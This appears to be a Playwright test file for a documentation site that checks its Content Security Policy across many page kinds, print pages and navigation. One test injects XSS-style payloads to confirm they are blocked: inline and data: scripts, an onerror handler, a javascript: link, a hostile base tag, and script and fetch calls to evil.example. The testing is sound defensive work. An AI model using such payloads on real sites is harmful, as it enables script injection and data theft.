import type { Page } from '@playwright/test';
import type { RouteRecord } from '../lib/build/route-manifest.ts';
import { fixtureManifest, href } from './site-files.ts';
import { FIXTURE_URL, VARIANT_URL, hydrated, open, expect, test } from './site.ts';
import { searchBox, type } from './search-helpers.ts';

/** One listed page of each kind in each locale. */
function kinds(records: readonly RouteRecord[]): string[] {
  const first = new Map(
    records
      .filter(({ unlisted, kind }) => !unlisted && kind !== 'not-found')
      .map(({ locale, kind, path }) => [`${locale} ${kind}`, path]),
  );
  return [...first.values()].map(href);
}

const policyOf = async (page: Page) =>
  (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'))!;

// Every test of e2e/ fails on a violation, kinds.spec.ts on every kind of page of the product; these
// go where the others might not.
test('B71: every kind of page of the fixture site keeps to its policy, and so do print pages', async ({
  page,
}) => {
  const pages = [
    ...kinds(fixtureManifest()).map((path) => FIXTURE_URL + path),
    ...[
      '/BSP/_print',
      '/zh-tw/weda/docs/_print',
      `${FIXTURE_URL}/Guide/_print`,
      `${FIXTURE_URL}/shop/api/list-orders`,
    ],
  ];
  expect(pages.length).toBeGreaterThan(25);
  for (const path of pages) {
    await page.goto(path);
    if (!path.endsWith('_print')) await hydrated(page);
  }
});

test.describe('a page that is not there', () => {
  test.use({ expectConsole: /404/ });

  test('B71: keeps to its policy, in both languages', async ({ page }) => {
    for (const [path, title] of [
      ['/nope', 'Page not found'],
      ['/zh-tw/nope', '找不到'],
    ] as const) {
      await open(page, path);
      await expect(page.locator('h1')).toContainText(title);
      expect(await policyOf(page)).toContain('sha256-');
    }
  });
});

test('B71: what moves keeps to the policy of the page that was loaded first: search, menus, tabs, pictures, diagrams, samples', async ({
  page,
}) => {
  await open(page, `${FIXTURE_URL}/Guide`);
  await page.evaluate(() => Object.assign(window, { sameDocument: true }));
  const go = (path: string) =>
    page.evaluate(
      (target) => document.querySelector<HTMLAnchorElement>(`a[href="${target}"]`)!.click(),
      path,
    );
  await page.locator('header').getByRole('button', { name: 'More', exact: true }).focus();
  await page.keyboard.press('ArrowDown');
  await page.getByRole('menu').getByRole('menuitem', { name: 'Code' }).click();
  await expect(page).toHaveURL(/\/Guide\/code$/);
  await page.getByRole('tab', { name: 'Windows' }).first().click();
  await expect(page.getByText('Windows here.')).toBeVisible();
  await page.locator('#picture').scrollIntoViewIfNeeded();
  await page.getByRole('button', { name: 'Enlarge A wide drawing' }).click();
  await expect(page.getByRole('dialog', { name: 'A wide drawing' })).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Enlarge Diagram' }).click();
  await expect(page.getByRole('dialog', { name: 'Diagram' })).toBeVisible();
  await page.keyboard.press('Escape');
  await type(page, 'elements');
  await searchBox(page).rows.first().click();
  await expect(page.locator('mark[data-search-mark]').first()).toBeAttached();
  await page.evaluate(() =>
    document.body.append(
      Object.assign(document.createElement('a'), { href: '/shop/api/create-order' }),
    ),
  );
  await go('/shop/api/create-order');
  await page
    .locator('form[data-builder]')
    .getByRole('textbox', { name: 'Body' })
    .fill('{"name": "typed"}');
  await expect(page.locator('[data-samples] code:visible').first()).toContainText('typed');
  await page.locator('[data-samples]').getByLabel('Language').selectOption('Java');
  expect(
    await page.evaluate(() => (window as unknown as { sameDocument?: boolean }).sameDocument),
  ).toBe(true);
});

test('B71: a print page shows its diagrams and prints under its policy', async ({ page }) => {
  await page.addInitScript(() => {
    window.print = () => Object.assign(window, { printed: true });
  });
  await page.goto(`${FIXTURE_URL}/Guide/_print`);
  await expect(page.getByRole('img', { name: 'Diagram' }).first()).toBeVisible();
  await page.getByRole('button', { name: 'Print' }).click();
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { printed?: boolean }).printed))
    .toBe(true);
});

test.describe('the policy', () => {
  test.use({
    expectConsole: /Content Security Policy|ERR_BLOCKED_BY_CSP/,
    expectViolation:
      /^(script-src-elem (inline|data|https:\/\/evil\.example\/x\.js)|script-src-attr inline|base-uri|object-src|connect-src https:\/\/evil\.example)/,
  });

  test('B71: stops what a hole in the page would let in: inline scripts, handlers, evaluated text, scripts and requests of other hosts', async ({
    page,
  }) => {
    await open(page, '/BSP/Overview');
    const ran = await page.evaluate(async () => {
      const marks = window as unknown as { ran: string[]; mark: (name: string) => void };
      marks.ran = [];
      marks.mark = (name) => marks.ran.push(name);
      const script = (props: Partial<HTMLScriptElement>) =>
        document.body.append(Object.assign(document.createElement('script'), props));
      script({ text: 'mark("inline")' });
      script({ src: 'https://evil.example/x.js' });
      script({ src: 'data:text/javascript,mark("data")' });
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src="data:," onerror="mark(\'handler\')"><a id="hole" href="javascript:mark(\'link\')">x</a><base href="https://evil.example/"><object data="data:text/html,<script>parent.mark(1)</script>"></object>',
      );
      document.getElementById('hole')!.click();
      // As a page would: Playwright's own calls are let through.
      await new Promise((done) => setTimeout(done, 0));
      await fetch('https://evil.example/').then(
        () => marks.mark('fetch'),
        () => undefined,
      );
      return { ran: marks.ran, base: document.baseURI === location.href };
    });
    expect(ran).toEqual({ ran: [], base: true });
  });
});

test.describe('with a container', () => {
  test.use({ emptyTagManager: true });

  test('B69, B71: a container is allowed on the site that has one, and opens nothing else', async ({
    page,
  }) => {
    await page.goto(`${VARIANT_URL}/Guide`);
    await expect
      .poll(() =>
        page.evaluate(
          () => (window as unknown as { dataLayer?: { event: string }[] }).dataLayer?.[0]?.event,
        ),
      )
      .toBe('gtm.js');
    expect(await policyOf(page)).toMatch(
      /script-src 'self'( 'sha256-[\w+/=]+')+ https:\/\/www\.googletagmanager\.com;/,
    );
  });
});
